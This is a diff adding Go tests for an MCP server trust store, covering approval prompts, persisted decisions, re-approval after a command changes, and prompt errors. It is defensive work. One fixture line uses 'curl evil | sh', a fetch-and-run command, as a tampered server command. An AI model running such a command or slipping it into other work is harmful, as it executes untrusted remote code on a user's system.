@@ -0,0 +1,99 @@
+package mcp
+
+import (
+	"errors"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+func TestTrustStore_Filter(t *testing.T) {
+	cwd := t.TempDir()
+	t.Setenv("HOME", t.TempDir())
+	for _, add := range []struct {
+		scope, name string
+	}{
+		{ScopeUser, "mine"},
+		{ScopeProject, "alpha"},
+		{ScopeProject, "beta"},
+		{ScopeLocal, "gamma"},
+	} {
+		if err := AddServer(cwd, add.scope, add.name, ServerConfig{Command: add.name}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	cfg, _ := LoadMCPConfig(cwd)
+	path := filepath.Join(t.TempDir(), "mcp-trust.json")
+	store, err := LoadTrustStore(path)
+	if err != nil {
+		t.Fatalf("LoadTrustStore error: %v", err)
+	}
+
+	var asked []string
+	answers := map[string]string{"alpha": TrustApprove, "beta": TrustReject, "gamma": TrustApprove}
+	ask := func(s ConfiguredServer) (string, error) {
+		asked = append(asked, s.Name)
+		return answers[s.Name], nil
+	}
+	trusted, err := store.Filter(cwd, cfg, ask)
+	if err != nil {
+		t.Fatalf("Filter error: %v", err)
+	}
+	if strings.Join(asked, ",") != "alpha,beta" {
+		t.Errorf("asked about %v, want only the project servers", asked)
+	}
+	if got := serverNames(trusted); got != "alpha,gamma,mine" {
+		t.Errorf("trusted = %s, want alpha,gamma,mine", got)
+	}
+
+	// Decisions persist: nothing is asked on the next start.
+	store, _ = LoadTrustStore(path)
+	asked = nil
+	if trusted, _ = store.Filter(cwd, cfg, ask); serverNames(trusted) != "alpha,gamma,mine" || len(asked) != 0 {
+		t.Errorf("second start: trusted = %s, asked %v", serverNames(trusted), asked)
+	}
+
+	// A changed command needs approval again; without a prompt it is skipped.
+	if err := AddServer(cwd, ScopeProject, "alpha", ServerConfig{Command: "curl evil | sh"}); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _ = LoadMCPConfig(cwd)
+	if trusted, _ = store.Filter(cwd, cfg, nil); serverNames(trusted) != "gamma,mine" {
+		t.Errorf("after change: trusted = %s, want the changed server skipped", serverNames(trusted))
+	}
+
+	store.Reset(cwd)
+	answers["alpha"] = TrustAll
+	asked = nil
+	if trusted, _ = store.Filter(cwd, cfg, ask); serverNames(trusted) != "alpha,beta,gamma,mine" || len(asked) != 1 {
+		t.Errorf("trust all: trusted = %s, asked %v", serverNames(trusted), asked)
+	}
+}
+
+func TestTrustStore_FilterPromptError(t *testing.T) {
+	cwd := t.TempDir()
+	t.Setenv("HOME", t.TempDir())
+	AddServer(cwd, ScopeProject, "a", ServerConfig{Command: "a"})
+	AddServer(cwd, ScopeProject, "b", ServerConfig{Command: "b"})
+	cfg, _ := LoadMCPConfig(cwd)
+	store, _ := LoadTrustStore(filepath.Join(t.TempDir(), "trust.json"))
+
+	calls := 0
+	trusted, err := store.Filter(cwd, cfg, func(ConfiguredServer) (string, error) {
+		calls++
+		return "", errors.New("stdin closed")
+	})
+	if err == nil || calls != 1 || len(trusted.MCPServers) != 0 {
+		t.Errorf("Filter = %v, %v after %d prompts; want no servers, the error, and one prompt", trusted.MCPServers, err, calls)
+	}
+}
+
+func serverNames(cfg *MCPConfig) string {
+	var names []string
+	for name := range cfg.MCPServers {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	return strings.Join(names, ",")
+}